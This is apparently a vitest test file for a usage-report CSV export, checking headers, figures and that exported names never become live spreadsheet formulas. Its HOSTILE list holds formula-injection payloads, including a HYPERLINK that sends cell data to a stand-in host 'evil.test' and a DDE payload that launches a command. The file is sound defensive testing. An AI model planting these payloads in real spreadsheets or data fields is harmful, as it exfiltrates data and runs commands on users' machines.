// The export opens in a spreadsheet with every figure and no live formula, whatever the names of people, teams and
// models.

import { afterAll, beforeAll, expect, test } from 'vitest';
import { OrgBed, type Person } from '../breakers/org-bed.ts';
import { folded } from '../folded.ts';
import type { Answer, Json } from '../harness.ts';
import { parseCsv } from './parse-csv.ts';
import { ReportBed } from './report-bed.ts';

let bed: OrgBed;
let reports: ReportBed;
let teamId: string;
let ann: Person;

beforeAll(async () => {
  bed = await OrgBed.open();
  bed.doors.clock.set('2026-03-03T12:00:00Z');
  reports = await ReportBed.open(bed);
  teamId = await bed.team(reports.org, 'Blue', 4);
  ann = await bed.member(reports.org, teamId);
  await reports.rename('users', reports.org.admin.userId, 'Zoe');
  await reports.rename('users', ann.userId, 'Ann');
  await reports.call(ann, 'quick');
  await reports.call(ann, 'exact');
});

afterAll(() => bed.close());

const exported = (view: string, month = 3): Promise<Answer> =>
  reports.report('export', `?year=2026&month=${month}&view=${view}`);

/** Through `fetch`, whose decoder drops a byte order mark: hence the bytes. */
async function bytesOf(view: string): Promise<Buffer> {
  const response = await fetch(
    `${bed.doors.first.url}/api/orgs/${reports.org.id}/reports/export?year=2026&month=3&view=${view}`,
    {
      headers: { Authorization: `Bearer ${reports.org.admin.managementKey}` },
    },
  );
  return Buffer.from(await response.arrayBuffer());
}

const tableOf = async (view: string): Promise<string[][]> => parseCsv((await bytesOf(view)).toString('utf8'));

test('RPT-05 RPT-06 it is CSV, a download with a telling name, and begins with the byte order mark', async () => {
  const answer = await exported('by-team');
  expect(answer.status).toBe(200);
  expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(answer.headers.get('content-disposition')).toBe('attachment; filename="tollgate-by-team-2026-03.csv"');
  expect(answer.headers.get('cache-control')).toBe('no-store');
  for (const view of ['overview', 'by-team', 'by-model', 'by-member']) {
    expect((await bytesOf(view)).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  }
});

test('RPT-05 each view has the figures of its report', async () => {
  expect(await tableOf('overview')).toEqual([
    ['date', 'spend'],
    ['2026-03-01', '0'],
    ['2026-03-02', '0'],
    ['2026-03-03', '0.1011'],
    ['total', '0.1011'],
    ['marginRate', '0'],
  ]);
  expect(await tableOf('by-team')).toEqual([
    ['teamId', 'team', 'model', 'spend', 'sharePct', 'monthlyBudget', 'budgetUtilizationPct'],
    [teamId, 'Blue', '', '0.1011', '100', '4', '2.5275'],
    [teamId, 'Blue', 'openai/quick', '0.1', '98.912', '', ''],
    [teamId, 'Blue', 'openai/exact', '0.0011', '1.088', '', ''],
  ]);
  expect(await tableOf('by-model')).toEqual([
    ['model', 'spend', 'tokens', 'requests', 'avgPricePer1M'],
    ['openai/quick', '0.1', '20', '1', '5000'],
    ['openai/exact', '0.0011', '1050', '1', '1.047619048'],
  ]);
  const [head, first, second] = await tableOf('by-member');
  expect(head).toEqual(['memberId', 'userId', 'name', 'email', 'team', 'spend', 'requests', 'tokens']);
  expect(first).toEqual([ann.memberId, ann.userId, 'Ann', expect.any(String), 'Blue', '0.1011', '2', '1070']);
  expect(second?.slice(4)).toEqual(['', '0', '0', '0']);
});

test('RPT-05 RPT-06 a view that is missing or unknown is 400', async () => {
  for (const query of ['', '&view=', '&view=by-key', '&view=Overview']) {
    const answer = await reports.report('export', `?year=2026&month=3${query}`);
    expect(answer.status).toBe(400);
    expect((answer.body.error as Json).message).toMatch(/^view: /);
  }
});

const HOSTILE = [
  '=HYPERLINK("http://evil.test/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r\n=1+1',
  '  =1+1',
  '"=1+1',
  '","=1+1',
  "'=1+1",
  '\u00a0=1+1',
  '＝1+1',
  'plain, with "quotes" and\nlines',
];

test('RPT-06 no name of a member, a team or a model becomes a formula', async () => {
  await folded((text) => bed.doors.rows(text));
  for (const name of HOSTILE) {
    await reports.rename('users', ann.userId, name);
    await reports.rename('teams', teamId, name);
    await bed.doors.rows('update usage_daily set model_id = $2 where account_id = $1 and model_id <> $3', [
      reports.org.id,
      name,
      'openai/exact',
    ]);
    for (const [view, width] of [
      ['by-team', 7],
      ['by-model', 5],
      ['by-member', 8],
    ] as const) {
      const table = await tableOf(view);
      expect(table.every((row) => row.length === width)).toBe(true);
      const cells = table.flat();
      expect(cells.some((cell) => cell === name || cell === `'${name}`)).toBe(true);
      const live = cells.filter((cell) => /^(?:[\t\r\n]|[\s"]*[=+\-@＝])/u.test(cell));
      expect(live).toEqual([]);
    }
  }
  const sums = await reports.body('overview', '?year=2026&month=3');
  expect(sums.totalSpend).toBe(0.1011);
});

test('RPT-06 a margin below zero is a number, and no text that begins with an apostrophe', async () => {
  await folded((text) => bed.doors.rows(text));
  await bed.doors.rows('update usage_daily set upstream_nano_usd = 2 * upstream_nano_usd where account_id = $1', [
    reports.org.id,
  ]);
  expect((await tableOf('overview')).at(-1)).toEqual(['marginRate', '-1']);
});
